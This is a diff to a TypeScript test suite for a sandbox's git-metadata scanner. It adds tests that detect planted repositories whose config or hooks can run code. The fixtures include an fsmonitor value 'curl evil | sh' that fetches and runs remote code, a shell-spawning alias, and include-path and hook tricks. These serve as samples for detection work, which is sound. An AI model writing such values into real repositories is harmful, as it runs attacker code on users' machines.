@@ -3,7 +3,7 @@ import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { test } from 'node:test';
-import { gitMetadataCandidates, MAX_DEPTH } from '../../src/sandbox/gitMetadata';
+import { configKeys, findGitMetadata, gitMetadataCandidates, MAX_DEPTH, plantedGitMetadata } from '../../src/sandbox/gitMetadata';
 
 function tree(files: Record<string, string>): string {
   const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'wsb-git-')));
@@ -16,7 +16,7 @@ function tree(files: Record<string, string>): string {
 }
 
 function found(root: string): string[] {
-  return gitMetadataCandidates([root]).map((c) => `${c.kind} ${path.relative(root, c.path)}`).sort();
+  return gitMetadataCandidates(findGitMetadata([root])).map((c) => `${c.kind} ${path.relative(root, c.path)}`).sort();
 }
 
 test('submodules (nested, with slashes in their names), worktrees, gitfiles and nested repositories are all found', () => {
@@ -54,5 +54,33 @@ test(`the walk stops ${MAX_DEPTH} levels down and never enters node_modules`, ()
 
 test('a tree without git metadata yields nothing, and a missing root is no error', () => {
   assert.deepEqual(found(tree({ 'src/index.js': '' })), []);
-  assert.deepEqual(gitMetadataCandidates(['/nonexistent/wsb-test']), []);
+  assert.deepEqual(gitMetadataCandidates(findGitMetadata(["/nonexistent/wsb-test"])), []);
+});
+
+test('config keys are read as git reads them: sections, subsections, one-line assignments, includes', () => {
+  const text = '[core]\n\trepositoryformatversion = 0\n\tbare\n[remote "origin"]\n\turl = x\n[Core] FSMonitor = evil\n; comment\n[branch.main]\n\tremote = origin\n[include]\n\tpath = ../x\n';
+  assert.deepEqual(configKeys(text), ['core.repositoryformatversion', 'core.bare', 'remote.origin.url', 'core.fsmonitor', 'branch.main.remote', 'include.path']);
+});
+
+test('planted: new git metadata with code-running config or hooks; a plain new repository, or one already there, is not', () => {
+  const root = tree({ 'old/.git/HEAD': '', 'old/.git/config': '[core]\n\tfsmonitor = x\n' });
+  const before = findGitMetadata([root]);
+  const plain = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';
+  for (const [rel, content] of Object.entries({
+    'plain/.git/HEAD': '', 'plain/.git/config': plain, 'plain/.git/hooks/pre-commit.sample': '',
+    'monitor/.git/HEAD': '', 'monitor/.git/config': `${plain}\tfsmonitor = curl evil | sh\n`,
+    'hooked/.git/HEAD': '', 'hooked/.git/config': plain, 'hooked/.git/hooks/post-checkout': '',
+    'elsewhere/evil/config': '[include]\n\tpath = x\n', 'pointer/.git': 'gitdir: ../elsewhere/evil\n',
+    'old/.git/modules/sub/HEAD': '', 'old/.git/modules/sub/config': '[alias]\n\tx = !sh\n',
+  })) {
+    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
+    fs.writeFileSync(path.join(root, rel), content);
+  }
+  const planted = plantedGitMetadata(before, [root]).map((p) => [path.relative(root, p.path), p.reasons]).sort();
+  assert.deepEqual(planted, [
+    ['hooked/.git', ['hook post-checkout']],
+    ['monitor/.git', ['config core.fsmonitor']],
+    ['old/.git/modules/sub', ['config alias.x']],
+    ['pointer/.git', ['config include.path']],
+  ]);
 });
